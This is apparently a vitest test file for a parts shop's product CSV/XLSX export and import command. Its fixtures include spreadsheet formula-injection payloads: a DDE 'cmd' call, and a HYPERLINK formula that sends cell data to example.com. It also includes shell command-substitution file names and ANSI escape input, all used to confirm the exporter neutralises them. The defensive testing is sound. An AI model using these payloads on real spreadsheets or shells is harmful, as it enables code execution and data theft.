import { execFile } from 'node:child_process'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import readXlsxFile from 'read-excel-file/node'
import { beforeAll, describe, expect, it } from 'vitest'
import { problemResponse, Refusal } from '#server/platform/http/refusal.ts'
import { fetchAs } from '#test/support/shopper.ts'
import { stock } from '#test/support/stock-room.ts'
import { exportWorkbook } from './export-workbook.ts'
import { ada, commandOn, folder, importText, serveImportShop, shop } from './import-shop.fixture.ts'
import { undamagedChoice } from './undamaged-choice.ts'

serveImportShop({})

/** Names that a spreadsheet would run, names close to them, and names that need quoting. */
const hostile = [
  '=HYPERLINK("http://example.com/?x="&A1,"10 kΩ")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-5 V regulator',
  '@SUM(1)',
  "'=1+1",
  "''=1+1",
  "'quoted'",
  '＝1+1',
  '5" LED strip; red, 12 V',
  '"',
  'with a \uFEFFmark',
]

beforeAll(async () => {
  for (const name of hostile) await stock(shop.db, { name, description: `${name}\r\n"=1+1";'` })
  await shop.db.query(
    `INSERT INTO families (key, parent, name, position) VALUES ('chips', 'resistors', 'Chips', 1)`,
  )
  await shop.db.query(
    `INSERT INTO parameters (family, key, name, kind, unit, position) VALUES
       ('resistors', 'resistance', 'Resistance', 'number', 'Ω', 1), ('chips', 'package', 'Package', 'choice', NULL, 2),
       ('leds', 'pitch', 'Pitch', 'number', 'm', 1)`,
  )
  await shop.db.query(
    `INSERT INTO parameter_choices SELECT id, k, k, 1 FROM parameters, (VALUES ('0402'), ('2.54mm')) AS c (k) WHERE key = 'package'`,
  )
  for (const [partNumber, choice] of [
    ['CHIP-0402', '0402'],
    ['CHIP-254', '2.54mm'],
  ] as const) {
    const priceBreaks = [{ quantity: 500, price: 0.0041 }]
    const id = await stock(shop.db, { partNumber, family: 'chips', price: '0.0058', priceBreaks })
    await shop.db.query(
      `INSERT INTO product_parameters (product_id, parameter_id, choice, number, text)
       SELECT $1, id, CASE kind WHEN 'choice' THEN $2 END, CASE kind WHEN 'number' THEN 1.5 END, CASE kind WHEN 'number' THEN '1.5 Ω' END
       FROM parameters WHERE key IN ('package', 'resistance')`,
      [id, choice],
    )
  }
})
const command = (...words: string[]) => commandOn(shop.databaseUrl, ...words)
const download = (path: string) => fetchAs(shop, ada, `/${path}`)
const textOf = async (path: string) => Buffer.from(await (await download(path)).arrayBuffer()).toString()
const imported = (text: string) => importText(text, { apply: false })
const countOnSale = async (where = 'true') =>
  (await shop.db.query(`SELECT count(*)::int AS count FROM products WHERE archived_at IS NULL AND ${where}`))
    .rows[0].count as number

describe('the file of an export', () => {
  it('has no cell that a spreadsheet would run, and no deleted products', async () => {
    const id = await stock(shop.db, { name: 'GONE' })
    await shop.db.query('UPDATE products SET archived_at = now() WHERE id = $1', [id])
    const { out } = await command('export')
    expect(out).toMatch(
      /^\uFEFFpartNumber,name,description,img,price,minimumOrder,availableQuantity,family,packaging,/,
    )
    expect(out.match(/(^|,)"[=+\-@\t\r＝]/gm)).toBeNull()
    expect(out).toContain(`"'-5 V regulator"`)
    expect(out).toContain(',0.25,10,1000,other,,,,active,,,unknown,unknown,,,,,,,,,,1,,')
    expect(out).not.toContain('GONE')
  })

  it.each(['', '?separator=semicolon'])('is imported without a change, for any names: %j', async (query) => {
    const text = await textOf(`products.csv${query}`)
    const unchanged = await countOnSale()
    expect(await imported(text)).toMatchObject({ unchanged, changed: 0, added: 0, refused: 0 })
  })

  it('for a German Excel has semicolons and decimal commas, but not in the key of a choice', async () => {
    const text = await textOf('products.csv?separator=semicolon&q=CHIP-254')
    expect(text).toMatch(/^\uFEFFpartNumber;name;description;/)
    expect(text).toMatch(/;0,0058;10;1000;chips;.*;500:0,0041;.*"1,5 Ω";"2.54mm"/)
  })

  it('is a family with those below it and its parameters, or what the list of products finds', async () => {
    const [head = '', ...lines] = (await textOf('products.csv?family=resistors')).trimEnd().split('\r\n')
    expect(head).toMatch(/parameters\.resistance,parameters\.package$/)
    expect(lines).toHaveLength(2)
    expect((await textOf('products.csv?q=-0402')).trimEnd().split('\r\n')).toHaveLength(2)
    expect((await textOf('products.csv?q=nothing+like+this')).trimEnd().split('\r\n')).toHaveLength(1)
  })

  it('is downloaded as the command writes it', async () => {
    const response = await download('products.csv')
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toContain('attachment')
    expect(Buffer.from(await response.arrayBuffer()).toString()).toBe((await command('export')).out)
  })
})

describe('the workbook', () => {
  it('is refused, with the way on, where a sheet has too few rows', async () => {
    const count = await countOnSale()
    expect(await exportWorkbook(shop.db, {}, count)).not.toBeInstanceOf(Refusal)
    const refusal = (await exportWorkbook(shop.db, {}, count - 1)) as Refusal
    const { status, title } = (await problemResponse(refusal).json()) as { status: number; title: string }
    expect([status, title]).toEqual([422, expect.stringContaining('Save them as CSV')])
  })

  it('has all products over several pages, in which texts stay texts and numbers are numbers', async () => {
    await stock(shop.db, { name: '=1+1 <"&> 5\u0001 mm 😀 _x0041_', partNumber: '000402' })
    await shop.db.query(
      `INSERT INTO products (id, name, description, img, price, minimum_order, available_quantity, family)
       SELECT gen_random_uuid(), 'Page ' || n, '', '', 1, 1, 0, 'other' FROM generate_series(1, 2000) n`,
    )
    const [sheet] = await readXlsxFile(Buffer.from(await (await download('products.xlsx')).arrayBuffer()))
    const [head = [], ...lines] = (sheet?.data ?? []) as (string | number | null)[][]
    expect(lines).toHaveLength(await countOnSale())
    const line = lines.find((cells) => cells.includes('000402')) ?? []
    const cells = ['name', 'price', 'availableQuantity'].map((title) => line[head.indexOf(title)])
    expect(cells).toEqual(['=1+1 <"&> 5 mm 😀 _x0041_', 0.25, 1000])
  })
})

describe('what a spreadsheet made of a value', () => {
  const keys = '0201 0402 0603 1-2 3/4 885012006020 885012999999 442000000001 442000000002 1E3'.split(' ')
  const choices = keys.map((key) => ({ key, name: key }))

  it.each([
    ['402', '0402'],
    ['2-Jan', '1-2'],
    ['01. Feb', '1-2'],
    ['Mar 04', '3/4'],
    ['03.04.2026', '3/4'],
    ['8.85012E+11', '885012006020'],
    ['4.42E+11', undefined],
    ['8,85013E+11', '885012999999'],
    ['1.00E+03', '1E3'],
    ['5-Jun', undefined],
    ['805', undefined],
    ['2-Xyz', undefined],
    ['', undefined],
  ])('%s is read as %s', (text, choice) => {
    expect(undamagedChoice(text, choices)).toBe(choice)
  })

  it('is read back by the import, and a shortened part number is refused', async () => {
    const text = (await textOf('products.csv?family=resistors')).replaceAll('"0402"', '402')
    expect(await imported(text)).toMatchObject({ changed: 0, added: 0, refused: 0 })
    const { shown } = await imported(text.replace('"CHIP-0402"', '8.85012E+11'))
    expect(shown.refused[0]?.what).toContain('A spreadsheet has shortened this number to 8.85012E+11.')
  })
})

describe('the command', () => {
  const HEADER = 'name,description,img,price,minimumOrder,availableQuantity'
  const write = (name: string, ...lines: string[]) =>
    writeFile(join(folder, name), [HEADER, ...lines].join('\n'))
  const line = (name: string) => `${name},x,/drawings/led-5mm-red.svg,1,1,7`

  it('shows a dry run and how many stocks it would set, then imports', async () => {
    await stock(shop.db, { name: 'STALE' })
    await write('new.csv', line('NEW'), line('STALE'))
    const { code, out } = await command('import', 'new.csv')
    expect(code).toBe(0)
    expect(out).toMatch(/New +1\n.*Changed +1\n.*Stock set +1\n/s)
    expect(out).toMatch(/What would be added\n +2 {2}NEW +price 1, minimumOrder 1, availableQuantity 7,/)
    expect(out).toMatch(/was written: 1\.\nTo keep the stock, leave the cell of availableQuantity empty/)
    expect(out).toContain('npm run products -- import new.csv --apply')
    expect((await command('import', 'new.csv', '--apply')).out).toContain('Imported: 1 new, 1 changed.')
    expect((await command('import', 'new.csv')).out).toContain('has all of this already')
  })

  it('prints a command that a shell reads literally', async () => {
    const as = `o'hara+$(id)-${ada.email}`
    await shop.db.query('UPDATE users SET email = $1 WHERE email = $2', [as, ada.email])
    for (const [name, path] of [
      ["my parts; $(id) 'new'.csv", "my parts; $(id) 'new'.csv"],
      ['-x.csv', './-x.csv'],
    ] as const) {
      await write(name, line('NEWER'))
      const { out } = await command('import', `--as=${as}`, '--', name)
      const last = out.trimEnd().split('\n').at(-1)?.trim() ?? ''
      const printed = last.replace('npm run products --', "printf '%s\\n'")
      const { stdout } = await promisify(execFile)('sh', ['-c', printed])
      expect(stdout.trimEnd().split('\n')).toEqual(['import', path, '--apply', `--as=${as}`])
    }
  })

  it('shows refused lines without control characters, and exits with 1', async () => {
    await write('bad.csv', '\u001b[31mRED,x,/drawings/led-5mm-red.svg,x,1,1')
    const { code, out } = await command('import', 'bad.csv', '--apply')
    expect([code, out]).toEqual([1, expect.stringMatching(/Refused +1\n/)])
    expect(out).toContain('2  [31mRED')
    expect(out).not.toContain('\u001b')
  })

  it('exits with 1 if the file is missing, and with 2 for wrong arguments', async () => {
    const missing = await command('import', 'nothing.csv')
    expect(missing).toMatchObject({ code: 1, err: expect.stringContaining('File not found') })
    for (const words of [[], ['remove'], ['import'], ['import', 'a', 'b'], ['export', '--apply'], ['--what']])
      expect((await command(...words)).code, words.join(' ')).toBe(2)
    expect(await command('--help')).toMatchObject({ code: 0, out: expect.stringContaining('--apply') })
  })

  it('names its database, explains a refused connection and leaves no partial file', async () => {
    const name = new URL(shop.databaseUrl).pathname.slice(1)
    const { code, out, err } = await command('export', 'all.csv')
    expect([code, out, err]).toEqual([
      0,
      '',
      expect.stringContaining(`The store is in the database ${name} at `),
    ])
    expect(await readFile(join(folder, 'all.csv'), 'utf8')).toMatch(/\r\n$/)
    expect((await command('export', 'no/such/folder.csv')).code).toBe(1)
    const refused = await commandOn('postgres://farad:copper-wire@127.0.0.1:1/parts', 'export', 'other.csv')
    expect(refused.code).toBe(1)
    expect(refused.err).toContain('No PostgreSQL listens at 127.0.0.1:1: the connection was refused.')
    expect(refused.err).not.toContain('copper-wire')
  })
})
